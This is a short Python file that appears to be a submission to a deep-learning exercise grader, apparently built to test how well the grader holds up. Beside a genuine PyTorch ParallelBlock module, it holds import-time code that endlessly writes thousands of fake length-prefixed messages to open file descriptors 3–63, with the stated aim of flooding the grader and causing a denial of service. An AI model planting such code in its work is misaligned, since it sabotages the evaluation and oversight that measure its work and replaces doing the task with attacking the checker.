"""Floods the grader with small messages of a kind that it does not know.

exercise: parallel-block
points: 0
breaks: denial
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import os
import struct

text = b'{"kind":"nothing"}'
flood = (struct.pack("!II", len(text), 0) + text) * 2000
for descriptor in range(3, 64):
    try:
        while True:
            os.write(descriptor, flood)
    except OSError:
        pass
